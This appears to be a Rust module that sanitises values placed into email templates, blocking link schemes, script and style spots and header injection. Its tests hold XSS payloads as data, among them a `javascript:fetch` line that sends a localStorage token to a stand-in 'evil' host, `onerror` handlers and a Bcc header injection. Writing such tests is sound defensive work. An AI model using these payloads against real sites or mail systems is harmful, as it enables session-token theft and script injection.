//! Placeholders filled into an email (contract §6). The stored HTML is
//! sanitised, but the values come from the conversation — from whoever
//! wrote in — so escaping is not enough where a value lands: at the start
//! of a link's address it decides the scheme (`javascript:`), and in a
//! subject a line break would start a header of its own.

/// Where a text goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Target {
    /// One line: line breaks and other control characters become spaces.
    Subject,
    /// The HTML body: values escaped, and checked where they land.
    Html,
    /// The plain text body, as it is.
    Plain,
}

/// Where in the HTML a placeholder stands, as far as its value goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Spot {
    /// Text the browser shows: between tags, or in a quoted value.
    Text,
    /// Where text would be read as code or style (a script's or style's
    /// content), inside a tag but in no value, in a tag the text never ends
    /// or a comment, or past the start of SVG, MathML and the like (see
    /// [`OTHER_READINGS`]): escaping does not keep a value from acting
    /// there (or being read as the tags around it), so nothing of the
    /// conversation goes there.
    Out,
    /// The value of the tag's attribute `attribute` (an index into the tags
    /// read); `bare` when unquoted (sanitised HTML has none, settings sent
    /// to preview may): it is sent quoted. Nothing goes into an `on…` handler or a `style`
    /// (code and style, as above), nor into an address it would give a
    /// scheme.
    Value { tag: usize, attribute: usize, bare: bool },
}

/// Attributes whose value the browser follows or loads (and any `…href`,
/// such as SVG's `xlink:href`).
const ADDRESSES: [&str; 17] = [
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "cite",
    "poster",
    "longdesc",
    "srcset",
    "usemap",
    "data",
    "ping",
    "codebase",
    "archive",
    "classid",
    "lowsrc",
    "dynsrc",
];

/// Schemes an address holding a conversation's value may have.
const SCHEMES: [&str; 4] = ["http", "https", "mailto", "tel"];

/// The text with each placeholder's value put in, as `value` gives it.
pub fn fill(text: &str, target: Target, value: impl Fn(&str) -> String) -> String {
    let spans = crate::validate::placeholder_spans(text);
    let values: Vec<String> = spans.iter().map(|p| value(p.name)).collect();
    if target == Target::Html {
        return fill_html(text, &spans, &values);
    }
    let mut out = String::with_capacity(text.len());
    let mut copied = 0;
    for (p, v) in spans.iter().zip(&values) {
        out.push_str(&text[copied..p.start]);
        match target {
            Target::Subject => out.extend(v.chars().map(|c| if c.is_control() { ' ' } else { c })),
            _ => out.push_str(v),
        }
        copied = p.end;
    }
    out.push_str(&text[copied..]);
    out
}

/// An HTML text filled: each value escaped, or left out where it could do
/// more than show. In an address, the address as the browser will read it
/// (values in, character references decoded) must be relative or of one of
/// [`SCHEMES`], or none of the values in it go in — so no value, alone or
/// with the text around it, decides a link's scheme.
fn fill_html(text: &str, spans: &[crate::validate::Placeholder<'_>], values: &[String]) -> String {
    // Placeholders left out where the tags are read (inside a tag but in no
    // value, or in a script's content): the tags are read again without
    // them, since taking one out can join what was around it (`<{{x}}script>`).
    let mut gone = vec![false; spans.len()];
    for _ in 0..READINGS {
        let reading = Reading::new(text, spans, &gone);
        let mut read = crate::markup::tags(&reading.text);
        let tags: Vec<crate::markup::Tag<'_>> = read.by_ref().collect();
        // A tag the text ends inside is dropped by the browser, but a value
        // with a `>` would finish it.
        let unfinished = read.unfinished().unwrap_or(usize::MAX);
        // Past a tag that sets browsers reading otherwise (SVG, MathML, a
        // frameset, a select, a noscript with scripting off), the tags read
        // here may not be theirs.
        let other_reading = tags
            .iter()
            .find(|t| !t.end && OTHER_READINGS.iter().any(|n| n.eq_ignore_ascii_case(t.name)))
            .map_or(usize::MAX, |t| t.span.start);
        // Nobody reads a comment, and a value could end one (`--`, or none
        // at all in `<!--{{x}}>`).
        let comments = read.comments();
        let in_comment = |at: usize| {
            let i = comments.partition_point(|c| c.end <= at);
            comments.get(i).is_some_and(|c| c.start <= at)
        };
        let spots: Vec<Spot> = spots(&tags, reading.at.iter().map(|r| r.start))
            .into_iter()
            .zip(&gone)
            .zip(&reading.at)
            .map(|((spot, gone), at)| {
                if *gone || at.start >= unfinished.min(other_reading) || in_comment(at.start) {
                    Spot::Out
                } else {
                    spot
                }
            })
            .collect();
        let mut settled = true;
        for (spot, gone) in spots.iter().zip(gone.iter_mut()) {
            if *spot == Spot::Out && !*gone {
                *gone = true;
                settled = false;
            }
        }
        if settled {
            return reading.fill(&tags, &spots, values);
        }
    }
    // Tags that keep changing as placeholders go: none of the values.
    Reading::new(text, spans, &vec![true; spans.len()]).text
}

/// Elements inside or after which browsers read tags otherwise than in
/// HTML's body (foreign content; frameset and classic select modes, where
/// style is no raw text; noscript without scripting).
const OTHER_READINGS: [&str; 5] = ["svg", "math", "frameset", "select", "noscript"];

/// How many times the tags are read before [`fill_html`] gives up on a
/// text (each reading leaves out at least one more placeholder; real
/// emails settle at the first).
const READINGS: usize = 8;

/// An HTML text as the browser will read it once filled: each placeholder
/// a run of letters (what an escaped value is to the tokenizer, whatever
/// characters its name has), or nothing where it is left out.
struct Reading {
    text: String,
    /// Where each placeholder stands in `text` (empty when left out).
    at: Vec<std::ops::Range<usize>>,
}

impl Reading {
    fn new(text: &str, spans: &[crate::validate::Placeholder<'_>], gone: &[bool]) -> Reading {
        let mut read = String::with_capacity(text.len());
        let mut at = Vec::with_capacity(spans.len());
        let mut copied = 0;
        for (p, gone) in spans.iter().zip(gone) {
            read.push_str(&text[copied..p.start]);
            let start = read.len();
            if !gone {
                read.extend(std::iter::repeat_n('x', p.end - p.start));
            }
            at.push(start..read.len());
            copied = p.end;
        }
        read.push_str(&text[copied..]);
        Reading { text: read, at }
    }

    /// The text with what goes in each placeholder's place.
    fn fill(&self, tags: &[crate::markup::Tag<'_>], spots: &[Spot], values: &[String]) -> String {
        let mut pieces: Vec<Option<String>> =
            spots.iter().zip(values).map(|(spot, v)| (*spot != Spot::Out).then(|| escape(v))).collect();
        // What replaces which part of the reading, in order.
        let mut edits: Vec<(std::ops::Range<usize>, String)> = Vec::new();
        let mut i = 0;
        while i < spots.len() {
            let Spot::Value { tag, attribute, bare } = spots[i] else {
                edits.push((self.at[i].clone(), pieces[i].take().unwrap_or_default()));
                i += 1;
                continue;
            };
            // The placeholders in one attribute's value, as it will be sent.
            let group = i..i + spots[i..].iter().take_while(|s| **s == spots[i]).count();
            let attr = &tags[tag].attributes[attribute];
            let filled = |pieces: &[Option<String>], text: &dyn Fn(&str) -> String| {
                let mut whole = String::new();
                let mut copied = attr.value_span.start;
                for k in group.clone() {
                    whole.push_str(&text(&self.text[copied..self.at[k].start]));
                    whole.push_str(pieces[k].as_deref().unwrap_or_default());
                    copied = self.at[k].end;
                }
                whole.push_str(&text(&self.text[copied..attr.value_span.end]));
                whole
            };
            let as_is = |s: &str| s.to_owned();
            if is_code(attr.name)
                || (is_address(attr.name) && !safe_address(&decode_references(&filled(&pieces, &as_is))))
            {
                pieces[group.clone()].fill(None);
            }
            if bare {
                // Quoted, so a space or quote in a value cannot end it and
                // start an attribute of the sender's.
                let quoted = filled(&pieces, &|s: &str| s.replace('"', "&quot;"));
                edits.push((attr.value_span.clone(), format!("\"{quoted}\"")));
            } else {
                edits.extend(
                    group.clone().map(|k| (self.at[k].clone(), pieces[k].take().unwrap_or_default())),
                );
            }
            i = group.end;
        }
        let mut out = String::with_capacity(self.text.len());
        let mut copied = 0;
        for (range, with) in edits {
            out.push_str(&self.text[copied..range.start]);
            out.push_str(&with);
            copied = range.end;
        }
        out.push_str(&self.text[copied..]);
        out
    }
}

fn escape(v: &str) -> String {
    let mut out = String::with_capacity(v.len());
    crate::html::escape_html(v, &mut out);
    out
}

/// Whether an attribute's value is an address.
fn is_address(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    lower.ends_with("href") || ADDRESSES.contains(&lower.as_str())
}

/// Whether an attribute's value is code, style or a document of its own
/// (`srcdoc`), or a refresh's address (`content`): escaping is undone
/// before it is read, and what it is read as is not text.
fn is_code(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    lower.starts_with("on") || matches!(lower.as_str(), "style" | "srcdoc" | "content")
}

/// The spot of each offset (ascending) among the tags read.
fn spots(tags: &[crate::markup::Tag<'_>], offsets: impl Iterator<Item = usize>) -> Vec<Spot> {
    let mut t = 0;
    offsets
        .map(|offset| {
            // The last tag starting before the offset, if the offset is in it or its raw content.
            while t + 1 < tags.len() && tags[t + 1].span.start <= offset {
                t += 1;
            }
            let Some(tag) = tags.get(t).filter(|tag| tag.span.start <= offset) else { return Spot::Text };
            if tag.raw.as_ref().is_some_and(|r| r.contains(&offset)) {
                return Spot::Out;
            }
            if !tag.span.contains(&offset) {
                return Spot::Text;
            }
            match tag.attributes.iter().position(|a| a.value_span.contains(&offset)) {
                Some(i) => Spot::Value { tag: t, attribute: i, bare: tag.attributes[i].quote.is_none() },
                None => Spot::Out,
            }
        })
        .collect()
}

/// Whether an address may be sent: no scheme (a relative one), or one of
/// [`SCHEMES`].
fn safe_address(address: &str) -> bool {
    crate::markup::scheme(address).is_none_or(|s| SCHEMES.contains(&s.as_str()))
}

/// An attribute's text with the character references that can spell a
/// scheme decoded: numeric ones (`&#106;`, `&#x3A`) and the named ones for
/// `:` `/` `?` `#` `+` `.`, tab and line feed. Any other `&` stays, and is
/// no character a scheme may have.
fn decode_references(text: &str) -> String {
    const NAMED: [(&str, char); 8] = [
        ("colon;", ':'),
        ("sol;", '/'),
        ("quest;", '?'),
        ("num;", '#'),
        ("plus;", '+'),
        ("period;", '.'),
        ("Tab;", '\t'),
        ("NewLine;", '\n'),
    ];
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        rest = &rest[amp + 1..];
        if let Some(number) = rest.strip_prefix('#') {
            let (digits, radix) = match number.strip_prefix(['x', 'X']) {
                Some(hex) => (hex, 16),
                None => (number, 10),
            };
            let len = digits.bytes().take_while(|b| char::from(*b).is_digit(radix)).count();
            if len > 0 {
                // Past U+10FFFF (however many digits) is U+FFFD, as is 0.
                let code = digits[..len].chars().fold(0u32, |n, d| {
                    n.saturating_mul(radix).saturating_add(d.to_digit(radix).unwrap_or(0)).min(0x11_0000)
                });
                out.push(char::from_u32(code).filter(|c| *c != '\0').unwrap_or('\u{fffd}'));
                let used = number.len() - digits.len() + len;
                rest = number[used..].strip_prefix(';').unwrap_or(&number[used..]);
                continue;
            }
        } else if let Some((name, c)) = NAMED.iter().find(|(name, _)| rest.starts_with(name)) {
            out.push(*c);
            rest = &rest[name.len()..];
            continue;
        }
        out.push('&');
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::markup::oracle::{browser_tags, BrowserTag};

    fn html(text: &str, value: &str) -> String {
        fill(text, Target::Html, |_| value.to_owned())
    }

    const EVIL: &str = "javascript:fetch('//evil/'+localStorage.token)";

    #[test]
    fn a_value_never_decides_a_links_scheme() {
        let evil = EVIL;
        let cases = [
            ("<a href=\"{{subject}}\">t</a>", evil, "<a href=\"\">t</a>"),
            ("<a href=\"{{subject}}\">t</a>", " \tJava\nScript:alert(1)", "<a href=\"\">t</a>"),
            ("<a href='{{subject}}'>t</a>", "data:text/html,x", "<a href=''>t</a>"),
            ("<img src=\"{{content}}\">", "vbscript:x", "<img src=\"\">"),
            ("<a title=\"x\" HREF=\"{{subject}}\">t</a>", evil, "<a title=\"x\" HREF=\"\">t</a>"),
            ("<a href=\"java{{subject}}\">t</a>", "script:alert(1)", "<a href=\"java\">t</a>"),
            // Spaces around `=` are still the attribute's value.
            ("<a href\t=\"{{subject}}\">t</a>", evil, "<a href\t=\"\">t</a>"),
            ("<a href = '{{subject}}'>t</a>", evil, "<a href = ''>t</a>"),
            // A value that ends a scheme the text starts, or starts one the text ends.
            ("<a href=\"j{{subject}}:alert(1)\">t</a>", "avascript", "<a href=\"j:alert(1)\">t</a>"),
            ("<a href=\"{{subject}}script:alert(1)\">t</a>", "java", "<a href=\"script:alert(1)\">t</a>"),
            // Character references the browser decodes, the text's or made with the value.
            ("<a href=\"&#x6A;{{subject}}\">t</a>", "avascript:alert(1)", "<a href=\"&#x6A;\">t</a>"),
            ("<a href=\"&{{subject}}\">t</a>", "#106;avascript:alert(1)", "<a href=\"&\">t</a>"),
            ("<a href=\"{{subject}}&colon;alert(1)\">t</a>", "javascript", "<a href=\"&colon;alert(1)\">t</a>"),
            // Inside SVG and MathML (style is an element there, CDATA hides
            // tags), frameset, select and noscript: nothing, to the end.
            ("<svg><a xlink:href=\"{{subject}}\">t</a></svg>", evil, "<svg><a xlink:href=\"\">t</a></svg>"),
            ("<svg><style><img title=\"</style>\" {{subject}}></svg><p>{{subject}}</p>", "src=x onerror=alert(1)", "<svg><style><img title=\"</style>\" ></svg><p></p>"),
            ("<svg><![CDATA[><a title=\"]]><img src=x {{subject}}>\">", "onerror=alert(1)", "<svg><![CDATA[><a title=\"]]><img src=x >\">"),
            ("<svg><a><animate attributeName=\"href\" values=\"{{subject}}\"/></a></svg>", evil, "<svg><a><animate attributeName=\"href\" values=\"\"/></a></svg>"),
            ("<noscript><img title=\"</noscript>\" {{subject}}>", "src=https://evil.example/p", "<noscript><img title=\"</noscript>\" >"),
            ("<select><style><b title=\"</style>\" {{subject}}>", "onclick=x", "<select><style><b title=\"</style>\" >"),
            ("<p>{{subject}}</p><math>", "hi", "<p>hi</p><math>"),
            // A document of its own, or a refresh's address: escaping is undone there.
            ("<iframe srcdoc=\"<p>Hi {{subject}}</p>\"></iframe>", "<img src=x onerror=alert(1)>", "<iframe srcdoc=\"<p>Hi </p>\"></iframe>"),
            ("<meta http-equiv=refresh content=\"0;url={{subject}}\">", evil, "<meta http-equiv=refresh content=\"0;url=\">"),
            // Allowed schemes and relative addresses stay, escaped.
            ("<a href=\"{{subject}}\">t</a>", "https://example.com/?a=1&b=\"2\"", "<a href=\"https://example.com/?a=1&amp;b=&quot;2&quot;\">t</a>"),
            ("<a href=\"{{subject}}\">t</a>", "mailto:ann@example.com", "<a href=\"mailto:ann@example.com\">t</a>"),
            ("<a href=\"{{subject}}\">t</a>", "tickets/42", "<a href=\"tickets/42\">t</a>"),
            ("<a href=\"/t/{{subject}}?x={{subject}}\">t</a>", "4:2", "<a href=\"/t/4:2?x=4:2\">t</a>"),
            // Past the scheme the value is only part of the address.
            ("<a href=\"https://portal.example/t/{{subject}}\">t</a>", evil, "<a href=\"https://portal.example/t/javascript:fetch(&#39;//evil/&#39;+localStorage.token)\">t</a>"),
            // Other attributes and text: escaped, kept.
            ("<a title=\"{{subject}}\" href=\"/x\">{{subject}}</a>", "<b>\"hi\"</b>", "<a title=\"&lt;b&gt;&quot;hi&quot;&lt;/b&gt;\" href=\"/x\">&lt;b&gt;&quot;hi&quot;&lt;/b&gt;</a>"),
            ("<p>a > b {{subject}}</p>", evil, "<p>a > b javascript:fetch(&#39;//evil/&#39;+localStorage.token)</p>"),
            ("<p>{{subject}}</p>", "--><img src=x>", "<p>--&gt;&lt;img src=x&gt;</p>"),
            // Comments: nobody reads them, and a value could end one.
            ("<!-- {{subject}}> --><p>x</p>", "--", "<!-- > --><p>x</p>"),
            ("<!--{{subject}}><p>x</p>", "", "<!--><p>x</p>"),
            // A tag the text never ends: the browser drops it, a value could end it.
            ("<p>x</p><a title=\"{{subject}}", "\">", "<p>x</p><a title=\""),
            // Code and style: escaping does not keep a value from acting there.
            ("<a onclick=\"go('{{subject}}')\">t</a>", "');steal();('", "<a onclick=\"go('')\">t</a>"),
            ("<p style=\"color: {{subject}}\">t</p>", "red; background: url(https://track.example)", "<p style=\"color: \">t</p>"),
            ("<script>var s = \"{{subject}}\";</script>", "\";steal();\"", "<script>var s = \"\";</script>"),
            ("<style>p{color:{{subject}}}</style>", "red}*{x:y", "<style>p{color:}</style>"),
            ("<title>{{subject}}</title>", "x", "<title></title>"),
            // In a tag but in no value: left out.
            ("<a {{subject}}>t</a>", "onclick=alert(1)", "<a >t</a>"),
            ("<{{subject}}>t", "script", "<>t"),
            // Unquoted: sent quoted, so a space or a quote in a value stays in it.
            ("<a href={{subject}}>t</a>", evil, "<a href=\"\">t</a>"),
            ("<a href={{subject}}>t</a>", "https://x.example onmouseover=alert(1)", "<a href=\"https://x.example onmouseover=alert(1)\">t</a>"),
            ("<a href={{subject}}>t</a>", "https://x.example/a", "<a href=\"https://x.example/a\">t</a>"),
            ("<a title={{subject}} href=/x>t</a>", "a b", "<a title=\"a b\" href=/x>t</a>"),
            ("<a title={{subject}} href=/x>t</a>", "", "<a title=\"\" href=/x>t</a>"),
            ("<a href=/t/{{subject}}>t</a>", "1 onclick=x", "<a href=\"/t/1 onclick=x\">t</a>"),
            ("<a href={{subject}}\"<b>t</a>", "x\"", "<a href=\"x&quot;&quot;<b\">t</a>"),
            ("<a href={{subject}}\"<b>t</a>", evil, "<a href=\"&quot;<b\">t</a>"),
        ];
        for (text, value, want) in cases {
            assert_eq!(html(text, value), want, "{text} with {value}");
        }
    }

    #[test]
    fn each_placeholder_gets_its_own_value() {
        let got = fill("<a href=\"{{a}}{{b}}\">{{a}}</a>", Target::Html, |n| {
            if n == "a" {
                "java".into()
            } else {
                "script:alert(1)".into()
            }
        });
        assert_eq!(got, "<a href=\"\">java</a>", "together they would make a scheme: both left out");
        let got = fill("<a href=\"{{a}}/{{b}}\">x</a>", Target::Html, |n| n.to_owned());
        assert_eq!(got, "<a href=\"a/b\">x</a>");
    }

    #[test]
    fn references_decode_as_the_browser_decodes_them() {
        for (text, want) in [
            ("&#106;&#X61;&#x76a", "ja\u{76a}"),
            ("&#0000000106;", "j"),
            ("&#0;&#99999999999;&#xD800;", "\u{fffd}\u{fffd}\u{fffd}"),
            ("&colon;&sol;&Colon;&amp;", ":/&Colon;&amp;"),
            ("a&#;b&", "a&#;b&"),
        ] {
            assert_eq!(decode_references(text), want, "{text}");
        }
    }

    #[test]
    fn a_subject_stays_one_line() {
        let got = fill("Re: {{subject}}", Target::Subject, |_| "Hi\r\nBcc: evil@example.com\u{0}".into());
        assert_eq!(got, "Re: Hi  Bcc: evil@example.com ");
        let body = fill("{{subject}}", Target::Plain, |_| "a\nb".into());
        assert_eq!(body, "a\nb", "the plain body keeps its lines");
    }

    /// An address's scheme as a browser's URL parser reads it (the value
    /// already decoded): `None` for a relative address.
    fn scheme(url: &str) -> Option<String> {
        let url: String = url
            .trim_matches(|c: char| c <= ' ')
            .chars()
            .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
            .collect();
        let colon = url.find(':')?;
        let s = &url[..colon];
        let mut chars = s.chars();
        let first = chars.next()?;
        (first.is_ascii_alphabetic()
            && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
        .then(|| s.to_ascii_lowercase())
    }

    /// Whether a browser would follow the address to a scheme other than
    /// the kept ones.
    fn dangerous(url: &str) -> bool {
        scheme(url).is_some_and(|s| !SCHEMES.contains(&s.as_str()))
    }

    fn shape(tags: &[BrowserTag]) -> Vec<(bool, String, Vec<String>)> {
        tags.iter()
            .map(|t| (t.end, t.name.clone(), t.attributes.iter().map(|(n, _)| n.clone()).collect()))
            .collect()
    }

    const PIECES: &[&str] = &[
        "<a ",
        "<img ",
        "<p ",
        "<svg><a ",
        ">",
        "</a>",
        "href=",
        "src=",
        "xlink:href=",
        "title=",
        "onclick=",
        "style=",
        "\"",
        "'",
        " ",
        "\t",
        "=",
        "/",
        ":",
        "j",
        "java",
        "script",
        "&",
        "&#",
        "x6A;",
        "106;",
        "&colon;",
        "https:",
        "//x",
        "?",
        "#",
        "<!--",
        "-->",
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<title>",
        "</title>",
        "{{v}}",
        "{{v}}",
        "{{v}}",
        "{{w}}",
        "<",
        "</",
        "<!",
        "<?",
        "-",
        "!",
        "\r",
        "x",
        "<textarea>",
        "<xmp>",
        "</xmp>",
        "<plaintext>",
        "<a/",
        "data=",
        "on",
    ];

    const VALUES: &[&str] = &[
        "javascript:alert(1)",
        " JaVa\tScRiPt:alert(1)",
        "java",
        "script:alert(1)",
        "avascript:x",
        "#106;",
        "x onmouseover=alert(1)",
        "\" onclick=\"x",
        "' onclick='x",
        "--><img src=x onerror=y>",
        "</script><b>",
        "data:text/html,x",
        "&#106;",
        "https://ok.example/a b",
        "",
        "tickets/1",
        ":",
        "/",
        "=x",
        "--",
        "-",
        "!",
        ">",
        "<",
        "\"",
        "'",
        "x>y",
        "a b",
        "</script>",
        "-->",
        "&colon;",
        "\u{0}",
        "é",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3000))]

        /// Filled with any values, the email has the tags and attributes it
        /// has with a plain word for each value, and no address a value
        /// turned to a scheme the plain word's email does not have — as
        /// html5ever reads the two. The oracle reads HTML content (it
        /// switches to raw text as the body does): past an SVG, MathML,
        /// frameset, select or noscript, where browsers read otherwise,
        /// `fill` puts no value at all, which the table above checks.
        #[test]
        fn no_value_changes_the_html_or_a_links_scheme(
            pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..30),
            v in proptest::sample::select(VALUES),
            w in proptest::sample::select(VALUES),
        ) {
            let text = pieces.concat();
            let filled = fill(&text, Target::Html, |n| if n == "v" { v.to_owned() } else { w.to_owned() });
            let plain = fill(&text, Target::Html, |_| "word".to_owned());
            let (filled_tags, plain_tags) = (browser_tags(&filled), browser_tags(&plain));
            prop_assert_eq!(shape(&filled_tags), shape(&plain_tags), "{:?} → {:?} / {:?}", text, filled, plain);
            for (f, p) in filled_tags.iter().zip(&plain_tags) {
                for ((name, value), (_, plain_value)) in f.attributes.iter().zip(&p.attributes) {
                    if is_address(name) && dangerous(value) {
                        prop_assert!(
                            dangerous(plain_value) && scheme(value) == scheme(plain_value),
                            "{:?} → {:?}: {}={:?}", text, filled, name, value
                        );
                    }
                    if is_code(name) {
                        prop_assert_eq!(value, plain_value, "{:?} → {:?}", text, filled);
                    }
                }
            }
        }
    }
}
